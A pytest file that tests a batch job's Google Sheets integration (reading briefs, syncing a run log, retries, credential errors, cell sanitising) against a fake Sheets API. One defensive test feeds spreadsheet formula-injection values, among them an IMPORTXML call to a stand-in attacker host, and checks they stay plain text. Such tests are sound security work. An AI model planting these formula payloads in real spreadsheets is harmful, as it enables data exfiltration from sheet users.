"""Google Sheets both ways, through gspread's real client code against the fake Sheets API."""

from __future__ import annotations

import json
import re
import time

import google.auth.exceptions
import pytest
import requests
from gspread.utils import rowcol_to_a1

from batch.errors import BriefloopError, SinkError
from batch.inputs.sources import scan_source
from batch.nightly.job import run_job
from batch.run.runner import Runner, sync_now
from batch.sheets.google import CELL_LIMIT, client_class, open_client, read_rows
from batch.sheets.run_rows import GSheetSink
from batch.store.runlog import FIELDS, RunLog

from conftest import ScriptedModel, critic_answer, make_settings, writer_answer
from fake_sheets import FakeSheets

KEY = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"
LOG_KEY = "9ZyXwVuTsRqPoNmLkJiHgFeDcBa9876543210"
SECRET = "-----BEGIN PRIVATE KEY-----\nTOPSECRETKEYMATERIAL\n-----END PRIVATE KEY-----\n"


@pytest.fixture
def fake():
    f = FakeSheets()
    f.add_spreadsheet(
        KEY,
        worksheets={
            "Briefs": [
                ["Id", "Brief", "Title"],
                ["007", "The office is closed on Friday.", "Closure"],
                ["008", "The canteen is closed on Monday.", ""],
                ["", "no id", ""],
            ]
        },
    )
    f.add_spreadsheet(LOG_KEY, worksheets={"Sheet1": []})
    return f


def gsettings(project, **kw):
    return make_settings(
        project,
        **{
            "log.gsheet": {"spreadsheet": LOG_KEY, "worksheet": "Runs", "sync_interval": 0},
            "google.retry.initial_seconds": 0.01,
            "google.retry.max_seconds": 0.05,
            "google.retry.attempts": 3,
            **kw,
        },
    )


def client_factory(fake, settings, sleeps=None, real_sleep=False):
    cls = client_class(settings.google)
    if sleeps is not None:

        def record(seconds):
            sleeps.append(seconds)
            if real_sleep:
                time.sleep(seconds)

        cls.sleep = staticmethod(record)
    return lambda: fake.client(http_client=cls)


def say_the_brief(messages):
    """A writer whose text states exactly what its brief says."""
    brief = re.search(r"<brief-\w+>\n(.*?)\n</brief-", messages[-1]["content"], re.S)
    return writer_answer(brief.group(1))


def models(n=2):
    return {
        "writer": ScriptedModel([say_the_brief] * n),
        "critic": ScriptedModel([critic_answer(5)] * n),
    }


def log_rows(fake):
    rows = fake.values(LOG_KEY, "Runs")
    assert rows[0][: len(FIELDS)] == FIELDS
    return [dict(zip(FIELDS, r, strict=False)) for r in rows[1:]]


# -- briefs from a Google Sheet --------------------------------------------------------


def test_briefs_from_a_google_sheet(fake, project):
    s = gsettings(project)
    client = client_factory(fake, s)()
    scan = scan_source(
        f"gsheet://{KEY}/Briefs", 10_000, read_gsheet=lambda key, ws: read_rows(client, key, ws)
    )
    ids = [b.id for b in scan.briefs]
    assert ids == ["007", "008", "row-4"]
    assert scan.briefs[2].reason == "id is empty"
    assert scan.briefs[0].origin == f"gsheet://{KEY}/Briefs row 2"


@pytest.mark.parametrize(
    "setup,expected",
    [
        (lambda f: f.set_shared(KEY, False), "share the sheet with"),
        (lambda f: None, "no worksheet 'Nope'"),
    ],
)
def test_source_errors_say_what_to_do(fake, project, setup, expected):
    setup(fake)
    client = client_factory(fake, gsettings(project))()
    with pytest.raises(BriefloopError, match=expected):
        read_rows(client, KEY, "Nope" if "worksheet" in expected else "Briefs")


def test_wrong_key_is_404(fake, project):
    client = client_factory(fake, gsettings(project))()
    with pytest.raises(BriefloopError, match="not found: check the key"):
        read_rows(client, "nonexistent-key-123", "Briefs")


# -- the run log in a Google Sheet -------------------------------------------------------


def test_batch_from_sheet_to_sheet_without_duplicates(fake, project):
    s = gsettings(project)
    factory = client_factory(fake, s)
    summary = run_job(
        s, f"gsheet://{KEY}/Briefs", models=models(), strict=True, google_client=factory
    )
    assert sorted(r.outcome for r in summary.results) == ["approved", "approved", "error"]
    assert fake.sheet_titles(LOG_KEY) == ["Sheet1", "Runs"]  # created with its header
    rows = log_rows(fake)
    assert sorted(r["brief_id"] for r in rows) == ["007", "008", "row-4"]
    assert {r["stop_reason"] for r in rows if r["brief_id"] != "row-4"} == {"approved"}
    # a second night: nothing new, nothing duplicated
    run_job(s, f"gsheet://{KEY}/Briefs", models=models(), strict=True, google_client=factory)
    assert len(log_rows(fake)) == 3


def test_a_changed_run_is_updated_in_place(fake, project):
    s = gsettings(project)
    sink = GSheetSink(s.log.gsheet, client_factory(fake, s))
    log = RunLog(project / "runs.sqlite")
    log.upsert("t1", brief_id="a", status="awaiting_human", stop_reason="awaiting_human")
    log.upsert("t2", brief_id="b", status="finished", stop_reason="approved")
    from batch.sheets.sync import sync_sink

    assert sync_sink(log, sink).sent == 2
    log.upsert("t1", status="finished", stop_reason="approved_by_human")
    result = sync_sink(log, sink)
    assert (result.sent, result.error) == (1, None)
    rows = log_rows(fake)
    assert sorted((r["brief_id"], r["stop_reason"]) for r in rows) == [
        ("a", "approved_by_human"),
        ("b", "approved"),
    ]


@pytest.mark.parametrize("n", [1, 10, 100])
def test_requests_per_sync_do_not_grow_with_rows(fake, project, n):
    s = gsettings(project)
    sink = GSheetSink(s.log.gsheet, client_factory(fake, s))
    log = RunLog(project / "runs.sqlite")
    for i in range(n):
        log.upsert(f"t{i}", brief_id=f"b{i}", status="finished", stop_reason="approved")
    from batch.sheets.sync import sync_sink

    sync_sink(log, sink)  # first sync also creates the worksheet and the header
    for i in range(n):
        log.upsert(f"t{i}", score=50.0)  # every row changed
    for i in range(n):
        log.upsert(f"new{i}", brief_id=f"n{i}", status="running")  # and as many new ones
    fake.reset_counts()
    assert sync_sink(log, sink).sent == 2 * n
    # metadata read, values read, one batch update, one append: whatever n is
    assert [r.kind for r in fake.requests] == [
        "get",
        "values.get",
        "values.batchUpdate",
        "values.append",
    ]
    assert len(log_rows(fake)) == 2 * n


def test_formulas_stay_text_and_huge_cells_are_cut(fake, project):
    s = gsettings(project)
    sink = GSheetSink(s.log.gsheet, client_factory(fake, s))
    log = RunLog(project / "runs.sqlite")
    hostile = ['=IMPORTXML("http://evil.example","//a")', "+1", "-1", "@A1"]
    for i, text in enumerate(hostile):
        log.upsert(f"t{i}", brief_id=text, title=text, status="running")
    log.upsert("big", brief_id="big", status="failed", error="x" * 60_000)
    from batch.sheets.sync import sync_sink

    sync_sink(log, sink)
    assert fake.formulas == set()
    rows = {r["run_id"]: r for r in log_rows(fake)}
    assert sorted(r["title"] for r in rows.values() if r["title"]) == sorted(hostile)
    big = next(r for r in rows.values() if r["brief_id"] == "big")
    assert len(big["error"]) <= CELL_LIMIT and big["error"].endswith("in the run log database]")
    assert len(log.by_thread("big")["error"]) == 60_000  # SQLite keeps it whole


def test_outage_during_a_batch_then_recovery_every_row_once(fake, project):
    s = gsettings(project)
    sleeps: list[float] = []
    factory = client_factory(fake, s, sleeps)
    fake.fail(500, times=1000, match=LOG_KEY)  # the log sheet is down all night
    summary = run_job(
        s, f"gsheet://{KEY}/Briefs", models=models(), strict=True, google_client=factory
    )
    assert sorted(r.outcome for r in summary.results) == ["approved", "approved", "error"]
    assert any("3 row(s) left pending" in w for w in summary.warnings)
    assert len(sleeps) >= 2 and all(w <= 0.05 for w in sleeps)  # bounded backoff
    fake.clear_faults()
    [result] = [r for r in sync_now(s, google_client=factory) if r.sink.startswith("gsheet")]
    assert (result.sent, result.error) == (3, None)
    assert sorted(r["brief_id"] for r in log_rows(fake)) == ["007", "008", "row-4"]
    assert [r for r in sync_now(s, google_client=factory) if r.sent] == []


def test_429_honours_retry_after_then_succeeds(fake, project):
    s = gsettings(project)
    sleeps: list[float] = []
    client = client_factory(fake, s, sleeps)()
    fake.fail(429, times=2, retry_after=0.02)
    assert read_rows(client, KEY, "Briefs")[1][0] == "007"
    assert sleeps == [0.02, 0.02]


def test_html_502_is_retried_like_any_5xx(fake, project):
    s = gsettings(project)
    sleeps: list[float] = []
    client = client_factory(fake, s, sleeps)()
    fake.fail(502, times=1, html=True)
    assert read_rows(client, KEY, "Briefs")[1][0] == "007"
    assert len(sleeps) == 1


def test_retries_are_bounded(fake, project):
    s = gsettings(project, **{"google.retry.attempts": 4})
    sleeps: list[float] = []
    client = client_factory(fake, s, sleeps)()
    fake.fail(503, times=100)
    with pytest.raises(BriefloopError, match="503"):
        read_rows(client, KEY, "Briefs")
    assert len(sleeps) == 3  # four attempts, three waits


def test_retry_gives_up_at_the_total_time(fake, project):
    s = gsettings(project, **{"google.retry.total_seconds": 1.0, "google.retry.attempts": 10})
    sleeps: list[float] = []
    client = client_factory(fake, s, sleeps, real_sleep=True)()
    fake.fail(429, times=100, retry_after=0.6)
    with pytest.raises(BriefloopError, match="429"):
        read_rows(client, KEY, "Briefs")
    assert sleeps == [0.6]  # a second wait would pass the 1 s budget


def test_sink_failure_is_a_sink_error(fake, project):
    s = gsettings(project)
    fake.set_shared(LOG_KEY, False)
    sink = GSheetSink(s.log.gsheet, client_factory(fake, s))
    with pytest.raises(SinkError, match="permission denied; share the sheet"):
        sink.upsert([{"run_id": "r1"}])


# -- credentials ---------------------------------------------------------------------------


def test_credentials_errors_never_show_the_key(tmp_path, project):
    s = gsettings(project)
    with pytest.raises(BriefloopError, match="no Google credentials"):
        open_client(s.google, environ={})
    missing = tmp_path / "nope.json"
    with pytest.raises(BriefloopError, match="does not exist"):
        open_client(s.google, environ={"GOOGLE_APPLICATION_CREDENTIALS": str(missing)})
    broken = tmp_path / "broken.json"
    broken.write_text('{"private_key": "' + SECRET.replace("\n", "\\n") + '", oops')
    with pytest.raises(BriefloopError) as e:
        open_client(s.google, environ={"GOOGLE_APPLICATION_CREDENTIALS": str(broken)})
    assert "TOPSECRET" not in str(e.value) and "cannot be read as JSON" in str(e.value)
    bad_key = tmp_path / "sa.json"
    bad_key.write_text(
        json.dumps(
            {
                "type": "service_account",
                "private_key": SECRET,
                "client_email": "bot@p.iam.gserviceaccount.com",
                "token_uri": "https://oauth2.example/token",
            }
        )
    )
    with pytest.raises(BriefloopError) as e:
        open_client(s.google, environ={"GOOGLE_APPLICATION_CREDENTIALS": str(bad_key)})
    assert "TOPSECRET" not in str(e.value) and "not a service-account key" in str(e.value)


def test_a_failing_google_sink_leaves_no_secret_in_records(tmp_path, project):
    creds = tmp_path / "sa.json"
    creds.write_text(
        json.dumps(
            {
                "type": "service_account",
                "private_key": SECRET,
                "client_email": "bot@p.iam.gserviceaccount.com",
                "token_uri": "https://oauth2.example/token",
            }
        )
    )
    s = gsettings(project, **{"google.credentials": str(creds)})
    (project / "briefs" / "a.md").write_text("The office is closed on Friday.")
    with Runner(s, models=models(1), strict=True) as runner:  # the real open_client
        summary = runner.run(project / "briefs")
        records = runner.runlog.all()
    assert summary.results[0].outcome == "approved"
    text = json.dumps(records) + "\n".join(summary.warnings)
    assert "TOPSECRET" not in text and "PRIVATE KEY" not in text
    assert any("gsheet" in w and "pending" in w for w in summary.warnings)


def test_a_failed_append_is_not_retried_and_nothing_is_duplicated(fake, project):
    from batch.sheets.sync import sync_sink

    s = gsettings(project)
    sink = GSheetSink(s.log.gsheet, client_factory(fake, s, []))
    log = RunLog(project / "runs.sqlite")
    log.upsert("t0", brief_id="a", status="finished")
    assert sync_sink(log, sink).sent == 1  # sheet and header exist now
    log.upsert("t1", brief_id="b", status="finished")
    fake.fail(503, times=1, match=":append")
    failed = sync_sink(log, sink)
    assert failed.error and failed.pending == 1
    assert fake.count("values.append", include_injected=True) == 2  # one ok, one failed: no retry
    assert sync_sink(log, sink).sent == 1
    assert sorted(r["brief_id"] for r in log_rows(fake)) == ["a", "b"]


def test_duplicate_rows_are_all_updated(fake, project):
    from batch.sheets.sync import sync_sink

    s = gsettings(project)
    sink = GSheetSink(s.log.gsheet, client_factory(fake, s))
    log = RunLog(project / "runs.sqlite")
    rec = log.upsert("t0", brief_id="a", status="running")
    sync_sink(log, sink)
    ws = fake.client().open_by_key(LOG_KEY).worksheet("Runs")
    ws.append_rows([fake.values(LOG_KEY, "Runs")[1]], value_input_option="RAW")  # a twin
    log.upsert("t0", status="finished")
    sync_sink(log, sink)
    rows = [r for r in log_rows(fake) if r["run_id"] == rec["run_id"]]
    assert [r["status"] for r in rows] == ["finished", "finished"]


class AuthFailingAdapter(requests.adapters.BaseAdapter):
    def __init__(self, error):
        super().__init__()
        self.error = error

    def send(self, request, **kwargs):
        raise self.error

    def close(self):
        pass


@pytest.mark.parametrize(
    "error,expected",
    [
        (
            google.auth.exceptions.TransportError("token endpoint unreachable"),
            "cannot reach Google",
        ),
        (google.auth.exceptions.RefreshError("invalid_grant"), "refused the service-account key"),
    ],
)
def test_auth_and_network_failures_leave_rows_pending(project, error, expected):
    import gspread

    from batch.sheets.sync import sync_sink

    s = gsettings(project)
    session = requests.Session()
    session.mount("https://", AuthFailingAdapter(error))
    cls = client_class(s.google)
    cls.sleep = staticmethod(lambda seconds: None)
    sink = GSheetSink(
        s.log.gsheet, lambda: gspread.Client(auth=None, session=session, http_client=cls)
    )
    log = RunLog(project / "runs.sqlite")
    log.upsert("t0", brief_id="a", status="finished")
    result = sync_sink(log, sink)
    assert result.pending == 1 and expected in result.error
    with pytest.raises(BriefloopError, match=expected):
        read_rows(gspread.Client(auth=None, session=session, http_client=cls), KEY, "Briefs")


# -- what the cells hold -------------------------------------------------------------------


def sent_rows(fake):
    """Every row written to the run log, as the JSON bodies carried them."""
    return [(w.value_input_option, row) for w in fake.writes if w.status == 200 for row in w.values]


def test_numbers_reach_google_as_json_numbers(fake, project):
    from batch.sheets.sync import sync_sink

    s = gsettings(project)
    sink = GSheetSink(s.log.gsheet, client_factory(fake, s))
    log = RunLog(project / "runs.sqlite")
    log.upsert(
        "t1",
        brief_id="a",
        status="finished",
        stop_reason="approved",
        rounds=3,
        score=28.6,
        model_calls=8,
        seconds=9.5,
    )
    assert sync_sink(log, sink).sent == 1
    # values as a JSON outbox or a CSV round trip would hand them over: text
    sink.upsert([{**log.by_thread("t1"), "rounds": "4", "score": "30.5", "model_calls": "9"}])
    rows = [row for _, row in sent_rows(fake)[1:]]  # the header first
    assert {option for option, _ in sent_rows(fake)} == {"RAW"}
    for row, (rounds, score, calls) in zip(rows, [(3, 28.6, 8), (4, 30.5, 9)], strict=True):
        got = dict(zip(FIELDS, row, strict=True))
        assert (got["rounds"], got["score"], got["model_calls"]) == (rounds, score, calls)
        assert type(got["rounds"]) is int and type(got["score"]) is float
        assert type(got["model_calls"]) is int and type(got["seconds"]) is float
        assert got["started_at"].endswith("+00:00")  # times stay ISO text on Google
    raw = [r.json for r in fake.requests if r.kind in ("values.append", "values.batchUpdate")]
    assert '"28.6"' not in json.dumps(raw) and ", 28.6," in json.dumps(raw)
    ws = fake.client().open_by_key(LOG_KEY).worksheet("Runs")
    cells = [f"{rowcol_to_a1(2, FIELDS.index(f) + 1)}" for f in ("rounds", "score")]
    got = [ws.acell(c, value_render_option="UNFORMATTED_VALUE").value for c in cells]
    assert got == [4, 30.5]


def test_text_google_would_refuse_is_replaced(fake, project):
    from batch.sheets.sync import sync_sink

    s = gsettings(project)
    sink = GSheetSink(s.log.gsheet, client_factory(fake, s))
    log = RunLog(project / "runs.sqlite")
    log.upsert("t1", brief_id="a", title="t", status="finished", error="bad \ufffe \x1b end")
    result = sync_sink(log, sink)
    assert (result.sent, result.error) == (1, None)
    # SQLite cannot store a lone surrogate, but a record may come from elsewhere
    sink.upsert([{**log.by_thread("t1"), "title": "lone \ud800 half"}])
    [row] = log_rows(fake)
    assert row["title"] == "lone \ufffd half" and row["error"] == "bad \ufffd \ufffd end"
